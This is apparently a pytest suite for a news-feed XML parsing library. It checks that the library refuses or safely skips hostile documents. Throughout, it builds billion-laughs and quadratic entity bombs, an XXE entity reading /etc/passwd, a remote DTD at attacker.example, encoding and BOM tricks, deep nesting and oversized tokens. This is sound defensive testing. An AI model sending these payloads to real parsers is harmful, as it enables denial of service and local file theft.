"""XML from a feed is untrusted: entity bombs, XXE and DTDs, deep nesting, huge tokens and documents, and
trailing garbage, for every XML format, through the API under each policy."""

from __future__ import annotations

import io
import socket
import time
import tracemalloc
import warnings
from pathlib import Path
from typing import Any

import pytest

import wirecopy
from wirecopy import ParseError, SkippedDocumentWarning
from wirecopy.kit import _xml_document, _xml_token

# Each format's smallest document, to put after a hostile prolog.
ROOTS = {
    "nitf": "<nitf><body><body.content><p>{body}</p></body.content></body></nitf>",
    "newsml-g2": (
        '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g" standard="NewsML-G2" standardversion="2.24">'
        '<itemMeta><itemClass qcode="ninat:text"/><provider literal="p"/></itemMeta>'
        "<contentSet><inlineData>{body}</inlineData></contentSet></newsItem>"
    ),
    "newsml-1": (
        '<NewsML><NewsItem><NewsComponent><ContentItem><MediaType FormalName="Text"/>'
        "<DataContent>{body}</DataContent></ContentItem></NewsComponent></NewsItem></NewsML>"
    ),
    "rcv1-xml": '<newsitem itemid="1" date="1996-08-20"><text><p>{body}</p></text></newsitem>',
}
FORMATS = sorted(ROOTS)
REFUSED = (
    "entity declarations are refused (entity {name!r}): XML from a feed is untrusted, "
    "and entities can expand without bound or read local files (at attack.xml, line {line}, column {column})"
)


def billion_laughs(root: str) -> str:
    levels = ['  <!ENTITY lol0 "lol">']
    levels += [f'  <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return '<?xml version="1.0"?>\n<!DOCTYPE x [\n' + "\n".join(levels) + "\n]>\n" + root.format(body="&lol9;")


def quadratic_blowup(root: str) -> str:
    return '<!DOCTYPE x [<!ENTITY big "' + "x" * 100_000 + '">]>\n' + root.format(body="&big;" * 100_000)


def external_entity(root: str) -> str:
    return '<!DOCTYPE x [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n' + root.format(body="&xxe;")


def parameter_entity(root: str) -> str:
    return """<!DOCTYPE x [<!ENTITY % p "<!ENTITY e 'EXPANDED'>"> %p;]>""" + root.format(body="&e;")


# The NewsML 1.2 boilerplate: an external parameter entity, declared and referenced.
BOILERPLATE = '<!ENTITY % nitf SYSTEM "nitf-3-0.dtd"> %nitf;'


def parameter_entity_twice(root: str) -> str:
    return f'<!DOCTYPE x [{BOILERPLATE}\n<!ENTITY % nitf SYSTEM "evil.dtd"> %nitf;]>' + root.format(body="x")


def boilerplate_then_internal(root: str) -> str:
    return f'<!DOCTYPE x [{BOILERPLATE}\n<!ENTITY e "EXPANDED">]>' + root.format(body="&e;")


def boilerplate_then_external(root: str) -> str:
    return f'<!DOCTYPE x [{BOILERPLATE}\n<!ENTITY e SYSTEM "file:///etc/passwd">]>' + root.format(body="&e;")


def internal_then_boilerplate(root: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY e "EXPANDED">\n{BOILERPLATE}]>' + root.format(body="&e;")


ATTACKS = {
    "billion-laughs": (billion_laughs, "lol0", 3, 3),
    "quadratic-blowup": (quadratic_blowup, "big", 1, 14),
    "xxe": (external_entity, "xxe", 2, 1),
    "parameter-entity": (parameter_entity, "p", 1, 14),
    "parameter-entity-twice": (parameter_entity_twice, "nitf", 2, 1),
    "boilerplate-then-internal": (boilerplate_then_internal, "e", 2, 1),
    "boilerplate-then-external": (boilerplate_then_external, "e", 2, 1),
    "internal-then-boilerplate": (internal_then_boilerplate, "e", 1, 14),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("name", FORMATS)
def test_attack_is_refused_under_strict(name: str, attack: str) -> None:
    """Each attack ends in a ParseError naming the entity and where it is declared."""
    build, entity, line, column = ATTACKS[attack]
    with pytest.raises(ParseError) as info:
        wirecopy.loads(build(ROOTS[name]), name, errors="strict", filename="attack.xml")
    assert str(info.value) == REFUSED.format(name=entity, line=line, column=column)
    assert info.value.kind == "entity-declaration"


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("name", FORMATS)
def test_attack_is_fast_and_small(name: str, attack: str) -> None:
    """Refusing an attack takes well under a second and a few megabytes, whatever it would expand to."""
    data = ATTACKS[attack][0](ROOTS[name]).encode()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        reader = wirecopy.iter_load(__import__("io").BytesIO(data), name, errors="skip")
        assert list(reader) == []
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [error.kind for error in reader.skipped] == ["entity-declaration"]
    assert elapsed < 1.0
    assert peak < 8 * len(data) + 4_000_000


@pytest.mark.parametrize("errors", ["warn", "skip"])
@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("name", FORMATS)
def test_attack_is_never_expanded_under_warn_and_skip(name: str, attack: str, errors: str) -> None:
    """Under warn and skip the hostile document gives no article, and no entity's text shows anywhere."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        reader = wirecopy.iter_load(io.BytesIO(ATTACKS[attack][0](ROOTS[name]).encode()), name, errors=errors)
        assert list(reader) == []
    assert [error.kind for error in reader.skipped] == ["entity-declaration"]
    assert len(caught) == (1 if errors == "warn" else 0)
    assert not any("EXPANDED" in str(error) or "root:" in str(error) for error in reader.skipped)


@pytest.fixture
def sockets(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """The sockets opened while the test runs (none may be: opening one fails)."""
    opened: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        opened.append(args)
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    return opened


@pytest.mark.parametrize("name", FORMATS)
def test_the_newsml_dtd_boilerplate_is_read(name: str, sockets: list[object]) -> None:
    """The external parameter entity NewsML 1.2 feeds declare and reference is accepted, and never fetched."""
    prolog = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>\n'
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        [article] = wirecopy.loads(prolog + ROOTS[name].format(body="Safe text."), name, errors="strict")
    assert article.paragraphs == ("Safe text.",)
    assert sockets == []


def test_the_boilerplate_is_read_in_a_file_of_several_documents() -> None:
    """A second document with the boilerplate, read through the stream's guard, is read too."""
    document = f"<!DOCTYPE nitf [{BOILERPLATE}]>" + ROOTS["nitf"].format(body="Two.")
    data = ROOTS["nitf"].format(body="One.") + "\n" + document
    assert [a.paragraphs for a in wirecopy.loads(data, "nitf", errors="strict")] == [("One.",), ("Two.",)]


def test_the_boilerplate_does_not_define_what_it_names() -> None:
    """The parameter entity is not read: an entity its DTD would declare stays undefined."""
    document = f"<!DOCTYPE nitf [{BOILERPLATE}]>" + ROOTS["nitf"].format(body="&nbsp;")
    with pytest.raises(ParseError) as info:
        wirecopy.loads(document, "nitf", errors="strict")
    assert info.value.kind == "not-xml"
    assert "undefined entity" in str(info.value)


@pytest.mark.parametrize("name", FORMATS)
def test_attack_is_skipped_with_a_warning(name: str) -> None:
    """Under warn, the hostile document is left out with a warning, and nothing else happens."""
    with pytest.warns(SkippedDocumentWarning, match="entity declarations are refused"):
        assert wirecopy.loads(billion_laughs(ROOTS[name]), name) == []


@pytest.mark.parametrize("name", FORMATS)
def test_local_dtd_is_never_read(name: str, tmp_path: Path) -> None:
    """A DTD on disk is not read: an entity it defines stays undefined, and its text never leaks."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "LEAKED-FROM-DISK">', encoding="utf-8")
    document = f'<!DOCTYPE x SYSTEM "{dtd.as_uri()}">' + ROOTS[name].format(body="&secret;")
    with pytest.raises(ParseError) as info:
        wirecopy.loads(document, name, errors="strict", filename="attack.xml")
    column = len(document) - len(ROOTS[name].format(body="&secret;")) + ROOTS[name].index("{body}") + 1
    assert str(info.value) == f"invalid XML: undefined entity (at attack.xml, line 1, column {column})"
    assert "LEAKED" not in str(info.value)


@pytest.mark.parametrize("name", FORMATS)
def test_network_dtd_is_never_fetched(name: str, sockets: list[object]) -> None:
    """A DTD named by URL (as the NYT corpus names nitf-3-3.dtd) is not fetched: no socket is opened."""
    document = '<!DOCTYPE x SYSTEM "http://www.nitf.org/IPTC/NITF/3.3/specification/dtd/nitf-3-3.dtd">' + ROOTS[
        name
    ].format(body="Safe text.")
    [article] = wirecopy.loads(document, name, errors="strict")
    assert article.paragraphs == ("Safe text.",)
    assert sockets == []


def test_relative_dtd_is_not_needed() -> None:
    """A DTD that is not there (the fishing sample's ../dtd/nitf-3-2.dtd) does not stop reading."""
    document = '<!DOCTYPE nitf SYSTEM "../dtd/nitf-3-2.dtd">\n' + ROOTS["nitf"].format(body="Text.")
    [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ("Text.",)


def test_harmless_internal_subset_is_allowed() -> None:
    """A DOCTYPE whose internal subset declares no entity (only attribute lists) is read."""
    document = '<!DOCTYPE nitf [<!ATTLIST nitf baselang CDATA "en">]>' + ROOTS["nitf"].format(body="Text.")
    [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ("Text.",)


def test_hostile_document_after_a_good_one() -> None:
    """In a file of several documents, the good one is returned and the hostile one refused."""
    good = "<nitf><body><body.content><p>Good.</p></body.content></body></nitf>\n"
    data = good + billion_laughs(ROOTS["nitf"]).replace('<?xml version="1.0"?>\n', "")
    reader = wirecopy.iter_load(__import__("io").BytesIO(data.encode()), "nitf", errors="skip")
    assert [article.paragraphs for article in reader] == [("Good.",)]
    assert [str(error) for error in reader.skipped] == [
        "entity declarations are refused (entity 'lol0'): XML from a feed is untrusted, "
        "and entities can expand without bound or read local files (at line 3, column 3)"
    ]


def test_entity_text_in_cdata_after_the_root_is_content() -> None:
    """The words "<!ENTITY" inside a CDATA section are text, not a declaration."""
    document = ROOTS["nitf"].format(body='<![CDATA[Write <!ENTITY x "y"> to declare one.]]>')
    [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ('Write <!ENTITY x "y"> to declare one.',)


def test_predefined_and_character_references_still_work() -> None:
    """The five predefined entities and numeric references are not entity declarations."""
    document = ROOTS["nitf"].format(body="&lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#229; &#x2014;")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ("<a> & \"b\" 'c' \u00e5 \u2014",)


# ---------------------------------------------------------------------------
# Tricks that a text scan of the prolog could miss: expat decides


SECRET = "EXPANDED-ENTITY-TEXT"
_DTD = f'<!DOCTYPE x [<!ENTITY e "{SECRET}">]>'


def _bom_twice(root: str) -> bytes:
    return b"\xef\xbb\xbf" + ("\ufeff" + _DTD + root.format(body="&e;")).encode()


def _utf16(root: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-16"?>' + _DTD + root.format(body="&e;")).encode("utf-16")


def _comments_first(root: str) -> bytes:
    prolog = '<?xml version="1.0"?>\n<!-- <!DOCTYPE fake> --><?pi <!DOCTYPE?>\n\t'
    return (prolog + _DTD + root.format(body="&e;")).encode()


def _standalone(root: str) -> bytes:
    return ('<?xml version="1.0" encoding="utf-8" standalone="yes"?>' + _DTD + root.format(body="&e;")).encode()


def _latin1_declared(root: str) -> bytes:
    return ('<?xml version="1.0" encoding="ISO-8859-1"?>' + _DTD + root.format(body="&e;")).encode("latin-1")


TRICKS = {
    "bom-twice": _bom_twice,
    "utf-16": _utf16,
    "comments-first": _comments_first,
    "standalone": _standalone,
    "latin-1": _latin1_declared,
}


@pytest.mark.parametrize("trick", sorted(TRICKS))
@pytest.mark.parametrize("name", FORMATS)
def test_prolog_tricks_are_refused_under_strict(name: str, trick: str) -> None:
    """Whatever precedes the DOCTYPE (a second BOM, UTF-16, comments, PIs), its entity is refused, not expanded."""
    with pytest.raises(ParseError) as info:
        wirecopy.loads(TRICKS[trick](ROOTS[name]), name, errors="strict")
    assert info.value.kind == "entity-declaration"
    assert "entity 'e'" in str(info.value)


@pytest.mark.parametrize("trick", sorted(TRICKS))
@pytest.mark.parametrize("name", FORMATS)
def test_prolog_tricks_are_left_out_under_skip_and_warn(name: str, trick: str) -> None:
    """Under skip and warn the document is left out, and the entity's text appears nowhere."""
    data = TRICKS[trick](ROOTS[name])
    reader = wirecopy.iter_load(io.BytesIO(data), name, errors="skip")
    assert list(reader) == []
    assert [error.kind for error in reader.skipped] == ["entity-declaration"]
    with pytest.warns(SkippedDocumentWarning) as caught:
        assert wirecopy.loads(data, name) == []
    assert all(SECRET not in str(warning.message) for warning in caught)


def test_bom_twice_as_a_str_is_refused() -> None:
    """Text given as a str with two BOMs before the DOCTYPE is refused too."""
    text = "\ufeff\ufeff" + _DTD + ROOTS["nitf"].format(body="&e;")
    with pytest.raises(ParseError) as info:
        wirecopy.loads(text, "nitf", errors="strict")
    assert info.value.kind == "entity-declaration"


def test_a_bom_after_white_space_is_not_a_way_in() -> None:
    """A BOM that is not first is a broken document: left out, its entity never expanded."""
    data = ("\n\ufeff" + _DTD + ROOTS["nitf"].format(body="&e;")).encode()
    reader = wirecopy.iter_load(io.BytesIO(data), "nitf", errors="skip")
    assert list(reader) == []
    assert len(reader.skipped) == 1
    assert SECRET not in str(reader.skipped[0])


# ---------------------------------------------------------------------------
# Deep nesting: iterative walks, never RecursionError

# Each format's smallest document with {body} where body text is walked into.
CONTAINERS = {
    "nitf": "<nitf><body><body.content>{body}</body.content></body></nitf>",
    "newsml-g2": (
        '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g" standard="NewsML-G2" standardversion="2.24">'
        '<itemMeta><itemClass qcode="ninat:text"/><provider literal="p"/></itemMeta>'
        "<contentSet><inlineXML><html><body>{body}</body></html></inlineXML></contentSet></newsItem>"
    ),
    "newsml-1": (
        '<NewsML><NewsItem><NewsComponent><ContentItem><MediaType FormalName="Text"/>'
        "<DataContent>{body}</DataContent></ContentItem></NewsComponent></NewsItem></NewsML>"
    ),
    "rcv1-xml": '<newsitem itemid="1" date="1996-08-20"><text>{body}</text></newsitem>',
}


def _nested(nesting: str, depth: int) -> str:
    if nesting == "containers":
        return "<div>" * depth + "<p>Deep.</p>" + "</div>" * depth
    return "<p>" + "<em>" * depth + "Deep." + "</em>" * depth + "</p>"


DEPTH_MESSAGE = "the document nests elements more than 1000 levels deep: left out"


@pytest.mark.parametrize("nesting", ["containers", "inline"])
@pytest.mark.parametrize("name", FORMATS)
def test_100000_levels_of_nesting_are_left_out(name: str, nesting: str) -> None:
    """A document nested 100,000 elements deep raises a too-deep ParseError under strict, never RecursionError."""
    with pytest.raises(ParseError) as info:
        wirecopy.loads(CONTAINERS[name].format(body=_nested(nesting, 100_000)), name, errors="strict")
    assert info.value.kind == "too-deep"
    assert str(info.value).startswith(DEPTH_MESSAGE)


@pytest.mark.parametrize("errors", ["warn", "skip"])
@pytest.mark.parametrize("nesting", ["containers", "inline"])
@pytest.mark.parametrize("name", FORMATS)
def test_deep_nesting_is_left_out_under_warn_and_skip(name: str, nesting: str, errors: str) -> None:
    """Ten times the depth limit leaves the document out as too-deep under warn and skip, warning only under warn."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        reader = wirecopy.iter_load(
            io.BytesIO(CONTAINERS[name].format(body=_nested(nesting, 10_000)).encode()), name, errors=errors
        )
        assert list(reader) == []
    assert [error.kind for error in reader.skipped] == ["too-deep"]
    assert len(caught) == (1 if errors == "warn" else 0)


@pytest.mark.parametrize("nesting", ["containers", "inline"])
@pytest.mark.parametrize("name", FORMATS)
def test_nesting_up_to_the_limit_is_read(name: str, nesting: str) -> None:
    """A document nested 990 levels deep, its root counting as one, gives its article, walked without recursion."""
    text = CONTAINERS[name].format(body=_nested(nesting, 1000 - 10 - CONTAINERS[name].count("><")))
    [article] = wirecopy.loads(text, name, errors="strict")
    assert article.paragraphs == ("Deep.",)


def test_the_depth_limit_is_placed_at_the_element_past_it() -> None:
    """The error points at the start tag of the 1,001st level; a small document checked whole lets the next be read."""
    first = ROOTS["nitf"].format(body="First.")
    deep = "<nitf><body><body.content>" + "<div>\n" * 2000 + "</div>" * 2000 + "</body.content></body></nitf>"
    reader = wirecopy.iter_load(io.BytesIO(f"{first}\n{deep}\n{first}".encode()), "nitf", errors="skip")
    assert [article.paragraphs for article in reader] == [("First.",), ("First.",)]
    [error] = reader.skipped
    assert (error.kind, error.lineno, error.colno) == ("too-deep", 999, 1)
    assert str(error) == f"{DEPTH_MESSAGE} (at line 999, column 1)"


@pytest.mark.parametrize("name", FORMATS)
def test_deep_nesting_costs_no_memory(name: str) -> None:
    """A megabyte of nesting, read as one document or as a message's items, is left out holding a few MB at most."""
    data = CONTAINERS[name].format(body=_nested("inline", 200_000)).encode()
    tracemalloc.start()
    try:
        reader = wirecopy.iter_load(io.BytesIO(data), name, errors="skip")
        assert list(reader) == []
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [error.kind for error in reader.skipped] == ["too-deep"]
    assert str(reader.skipped[0]).startswith(f"{DEPTH_MESSAGE}, and the rest of the input was not read")
    assert peak < 4_000_000


def test_many_elements_not_nested_deep_are_read() -> None:
    """Ten thousand paragraphs side by side are not nesting: the document is read, in one piece and in many."""
    body = "".join(f"<p>Paragraph {n}.</p>" for n in range(10_000))
    small = ROOTS["nitf"].format(body="x").replace("<p>x</p>", body)
    big = small.replace("</body.content>", "<p>" + "y " * 200_000 + "</p></body.content>")
    for text in (small, big, small + "\n" + big):
        articles = wirecopy.loads(text, "nitf", errors="strict")
        assert [len(article.paragraphs) for article in articles][-1] == 10_000 + (text.endswith(big))


def test_the_depth_limit_holds_in_a_message_read_item_by_item() -> None:
    """In a message read item by item, an item nested too deep is left out, and the items before it are read."""
    item = ROOTS["newsml-g2"].format(body="Text.")
    deep = ROOTS["newsml-g2"].format(body="<b>" * 5000 + "Deep." + "</b>" * 5000)
    message = '<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><itemSet>{}</itemSet></newsMessage>'
    data = message.format(item * 3000 + deep + item).encode()
    assert len(data) > 2 << 16  # over two chunks: read item by item
    reader = wirecopy.iter_load(io.BytesIO(data), "newsml-g2", errors="skip")
    assert len(list(reader)) == 3000
    assert [error.kind for error in reader.skipped] == ["too-deep"]


def test_a_format_may_allow_deeper_nesting(monkeypatch: pytest.MonkeyPatch) -> None:
    """A format's max_depth class attribute sets the limit: raised, 5,000 levels are read; lowered, 50 are not."""
    text = CONTAINERS["nitf"].format(body=_nested("containers", 5000))
    monkeypatch.setattr(FORMAT_CLASSES["nitf"], "max_depth", 6000)
    [article] = wirecopy.loads(text, "nitf", errors="strict")
    assert article.paragraphs == ("Deep.",)
    monkeypatch.setattr(FORMAT_CLASSES["nitf"], "max_depth", 50)
    with pytest.raises(ParseError, match="more than 50 levels deep"):
        wirecopy.loads(CONTAINERS["nitf"].format(body=_nested("containers", 50)), "nitf", errors="strict")


# ---------------------------------------------------------------------------
# A complete document followed by garbage: the document is kept

GARBAGE = {"ampersand": ("\n&", 2, 1), "second-end-tag": ("\n</{root}>\n", 2, 1), "text": ("\n\n  junk", 3, 3)}
ROOT_NAMES = {"nitf": "nitf", "newsml-g2": "newsItem", "newsml-1": "NewsML", "rcv1-xml": "newsitem"}


def _with_garbage(name: str, garbage: str) -> str:
    text = GARBAGE[garbage][0].format(root=ROOT_NAMES[name])
    return ROOTS[name].format(body="Kept.") + text


@pytest.mark.parametrize("garbage", ["ampersand", "second-end-tag"])
@pytest.mark.parametrize("name", FORMATS)
def test_trailing_garbage_is_reported_and_the_document_kept(name: str, garbage: str) -> None:
    """Under skip, the document before a stray & or a second end tag is returned; the garbage is reported."""
    reader = wirecopy.iter_load(
        io.BytesIO(_with_garbage(name, garbage).encode()), name, errors="skip", filename="g.xml"
    )
    articles = list(reader)
    assert [a.origin.index for a in articles] == [0]  # type: ignore[union-attr]
    assert len(articles) == 1 and "Kept." in " ".join(articles[0].paragraphs)
    [error] = reader.skipped
    _, line, column = GARBAGE[garbage]
    assert (error.kind, error.lineno, error.colno) == ("stray-text", line, column)
    assert str(error).startswith("the text after the end of the document is not XML (not well-formed (invalid token))")


@pytest.mark.parametrize("name", FORMATS)
def test_trailing_garbage_warns_under_warn(name: str) -> None:
    """Under warn, the document is returned and the garbage after it is warned about."""
    with pytest.warns(SkippedDocumentWarning, match="the text after the end of the document is not XML"):
        articles = wirecopy.loads(_with_garbage(name, "ampersand"), name)
    assert len(articles) == 1


@pytest.mark.parametrize("name", FORMATS)
def test_trailing_garbage_raises_under_strict(name: str) -> None:
    """Under strict, the garbage raises, placed at its first character."""
    with pytest.raises(ParseError) as info:
        wirecopy.loads(_with_garbage(name, "second-end-tag"), name, errors="strict", filename="g.xml")
    assert str(info.value) == (
        "the text after the end of the document is not XML (not well-formed (invalid token)); "
        "it was not read (at g.xml, line 2, column 1)"
    )
    assert info.value.kind == "stray-text"


@pytest.mark.parametrize("name", ["nitf", "rcv1-xml"])
def test_text_after_a_document_is_still_a_broken_document(name: str) -> None:
    """Words after a document start a next document, which is broken: the first one is kept, as before."""
    reader = wirecopy.iter_load(io.BytesIO(_with_garbage(name, "text").encode()), name, errors="skip")
    assert len(list(reader)) == 1
    [error] = reader.skipped
    assert (error.kind, error.lineno, error.colno) == ("not-xml", 3, 3)


# ---------------------------------------------------------------------------
# Huge tokens and documents: linear time, bounded memory

FORMAT_CLASSES = {name: type(wirecopy.get_format(name)) for name in FORMATS}


@pytest.fixture
def pieces(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The sizes of the pieces the documents' parsers are fed, in order."""
    fed: list[int] = []
    parse = _xml_document.DocumentParser._parse

    def counting(self: _xml_document.DocumentParser, piece: Any, final: bool) -> Any:
        if piece:
            fed.append(len(piece))
        return parse(self, piece, final)

    monkeypatch.setattr(_xml_document.DocumentParser, "_parse", counting)
    return fed


def test_a_huge_attribute_is_fed_in_growing_pieces(pieces: list[int]) -> None:
    """A 9 MB attribute reaches the parser in a few growing pieces, not hundreds each read again by expat."""
    size = _xml_token.MAX_TOKEN - 1000
    data = b'<nitf><head><meta name="big" content="' + b"x" * size + b'"/></head><body/></nitf>'
    [article] = wirecopy.loads(data, "nitf", errors="strict")
    assert len(article.extra["meta"]["big"]) == size
    assert len(pieces) < 24
    assert sum(pieces) == len(data)


@pytest.mark.parametrize("token", [b'<meta name="big" content="{x}"/>', b"<!--{x}-->", b"<?pi {x}?>"])
def test_a_tag_or_comment_over_the_token_limit_ends_the_document(token: bytes) -> None:
    """A tag, comment or processing instruction over MAX_TOKEN bytes leaves the document out as too large."""
    giant = token.replace(b"{x}", b"x" * (_xml_token.MAX_TOKEN + (4 << 20)))
    data = b"<nitf><head>" + giant + b"</head><body/></nitf>"
    problems: list[tuple[str | None, bool]] = []
    assert wirecopy.loads(data, "nitf", errors="skip", on_problem=lambda e, out: problems.append((e.kind, out))) == []
    assert problems == [("document-too-large", True)]
    with pytest.raises(ParseError, match="a tag or comment over 10000000 bytes"):
        wirecopy.loads(data, "nitf", errors="strict")


def test_a_huge_attribute_in_a_message_is_fed_in_growing_pieces(pieces: list[int]) -> None:
    """When streaming items, a token that produces no element for long is fed in growing pieces too."""
    size = _xml_token.MAX_TOKEN - 1000
    item = ROOTS["newsml-g2"].format(body="Text.")
    data = (
        '<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><header><sent a="'
        + "x" * size
        + f'">2019-01-01T00:00:00Z</sent></header><itemSet>{item}</itemSet></newsMessage>'
    ).encode()
    [article] = wirecopy.loads(data, "newsml-g2", errors="strict")
    assert article.paragraphs == ("Text.",)
    assert len(pieces) < 24


def test_many_documents_in_one_chunk_are_each_fed_a_short_piece(pieces: list[int]) -> None:
    """Documents one after another in one input are each handed what is left of a short piece, not of the chunk."""
    document = ROOTS["nitf"].format(body="Text.") + "\n"
    data = (document * 2000).encode()
    assert len(wirecopy.loads(data, "nitf", errors="strict")) == 2000
    assert max(pieces) <= 1 << 16
    assert sum(pieces) < len(data) + 2000 * 512


@pytest.mark.parametrize("errors", ["strict", "warn", "skip"])
@pytest.mark.parametrize("name", FORMATS)
def test_a_document_over_the_size_limit_is_left_out(name: str, errors: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A text node that takes a document over the limit leaves it out as document-too-large."""
    monkeypatch.setattr(FORMAT_CLASSES[name], "max_document_size", 1 << 20)
    data = CONTAINERS[name].format(body="<p>" + "x" * (2 << 20) + "</p>").encode()
    message = "is over 1048576 characters long: left out, and the rest of the input was not read (at line 1, column 1)"
    if errors == "strict":
        with pytest.raises(ParseError) as info:
            wirecopy.loads(data, name, errors="strict")
        assert info.value.kind == "document-too-large"
        assert str(info.value).endswith(message)
        return
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        reader = wirecopy.iter_load(io.BytesIO(data), name, errors=errors)
        assert list(reader) == []
    assert [error.kind for error in reader.skipped] == ["document-too-large"]
    assert len(caught) == (1 if errors == "warn" else 0)


def test_a_document_over_the_limit_is_not_held_in_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading stops at the limit: a 32 MB text node under a 1 MB limit costs a few megabytes, not its size."""
    monkeypatch.setattr(FORMAT_CLASSES["nitf"], "max_document_size", 1 << 20)
    stream = io.BytesIO(CONTAINERS["nitf"].format(body="<p>" + "x" * (32 << 20) + "</p>").encode())
    tracemalloc.start()
    try:
        reader = wirecopy.iter_load(stream, "nitf", errors="skip")
        assert list(reader) == []
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [error.kind for error in reader.skipped] == ["document-too-large"]
    assert peak < 8_000_000


def test_the_limit_counts_per_item_in_a_message(monkeypatch: pytest.MonkeyPatch) -> None:
    """In a message, the limit is per item: many small items pass it in all, one huge item is left out."""
    monkeypatch.setattr(FORMAT_CLASSES["newsml-g2"], "max_document_size", 1 << 20)
    item = ROOTS["newsml-g2"].format(body="x" * 1000)
    huge = ROOTS["newsml-g2"].format(body="x" * (2 << 20))
    message = '<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><itemSet>{}</itemSet></newsMessage>'
    many = message.format(item * 3000).encode()
    assert len(many) > 3 << 20
    assert len(list(wirecopy.load(io.BytesIO(many), "newsml-g2", errors="strict"))) == 3000
    reader = wirecopy.iter_load(io.BytesIO(message.format(item * 2 + huge + item).encode()), "newsml-g2", errors="skip")
    assert len(list(reader)) == 2
    assert [error.kind for error in reader.skipped] == ["document-too-large"]
